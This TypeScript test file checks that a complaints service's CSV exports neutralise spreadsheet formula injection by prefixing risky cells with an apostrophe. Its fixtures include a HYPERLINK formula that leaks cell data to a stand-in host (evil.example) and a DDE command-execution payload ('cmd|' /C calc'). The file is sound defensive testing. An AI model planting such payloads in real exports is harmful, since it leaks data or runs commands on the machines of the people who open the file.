import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { createLogger, signToken } from '@complaints/runtime';
import { createApp } from '../src/app';
import { csvWithBom } from '../src/csv';
import { useTestDatabase } from '../../../test/database';

// A CSV export is opened in Excel by the coordinator, the regions and finance. A cell that starts
// with =, +, -, @, a tab or a carriage return is taken by Excel for a formula (it can fetch a URL
// or run a command); such text comes from outside (a dealer's name in the directory, a reason typed
// by staff), so every CSV the services write shows it as text: with a leading apostrophe.
describe('CSV exports and formula cells', () => {
  const { config, mongo, models } = useTestDatabase({ directory: 'csvinjection' });
  let app: ReturnType<typeof createApp>;
  let coordinator: string;
  const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"详情")', '+1-1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
  const CLOSE_REASON = "=cmd|' /C calc'!A0";

  beforeAll(async () => {
    app = createApp({ mongo: mongo(), temporal: undefined as never, logger: createLogger('csv', 'silent'), models: models(), secret: config.AUTH_SECRET });
    coordinator = `Bearer ${await signToken(config.AUTH_SECRET, { sub: 'c', role: 'coordinator' })}`;
    // A dealer per formula, each with a complaint in May 2031: force-closed, with a formula for its reason.
    await models().Dealer.insertMany(FORMULAS.map((name, i) => ({ _id: `FX00${i}`, name, region: 'east', contacts: [{ email: `fx00${i}@test.local` }] })));
    await models().Complaint.insertMany(
      FORMULAS.map((_, i) => ({
        _id: `C2031051${i}-0001`,
        workflowId: `complaint-C2031051${i}-0001`,
        kind: 'complaint',
        category: 'service_process',
        severity: 'minor',
        channel: 'hotline',
        status: 'force_closed',
        dealerCode: `FX00${i}`,
        attributedDealerCode: `FX00${i}`,
        region: 'east',
        receivedAt: new Date(`2031-05-1${i}T10:00:00+08:00`),
        closedAt: `2031-05-2${i}T10:00:00+08:00`,
        closeReason: CLOSE_REASON,
        kpi: { repliedOnTime: true, contactedOnTime: true, firstTimeClosure: false, followUps: 1, falseReplies: 0, unreachable: false },
      })),
    );
  });

  const csv = async (path: string) => {
    const res = await request(app).get(path).set('authorization', coordinator).expect(200);
    return parse(res.text.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][];
  };
  const formulaCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

  it('writes a dealer’s name that starts like a formula as text in the scorecard CSV', async () => {
    const rows = await csv('/api/reports/scorecard?month=2031-05&format=csv');
    expect(formulaCells(rows)).toEqual([]);
    for (const [i, name] of FORMULAS.entries()) {
      const row = rows.find((r) => r[1] === `FX00${i}`)!;
      expect(row[2]).toBe(`'${name}`);
    }
    // Numbers stay numbers: the complaints counted.
    expect(rows.find((r) => r[1] === 'FX000' && r[5] === 'all')![6]).toBe('1');
  });

  it('writes a forced closure’s reason that starts like a formula as text', async () => {
    const rows = await csv('/api/reports/forced-closures?month=2031-05&format=csv');
    expect(rows).toHaveLength(1 + FORMULAS.length);
    expect(formulaCells(rows)).toEqual([]);
    expect(rows.slice(1).map((r) => r.at(-1))).toEqual(FORMULAS.map(() => `'${CLOSE_REASON}`));
  });

  it('neutralises text cells only, wherever a CSV is written, and keeps a cell of several lines one cell', () => {
    const text = csvWithBom([['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'a=b', '', '无数据', '客户期望\n无法满足', -1, 0, null]]);
    expect(parse(text.replace(/^\ufeff/, ''))).toEqual([["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'a=b', '', '无数据', '客户期望\n无法满足', '-1', '0', '']]);
  });
});
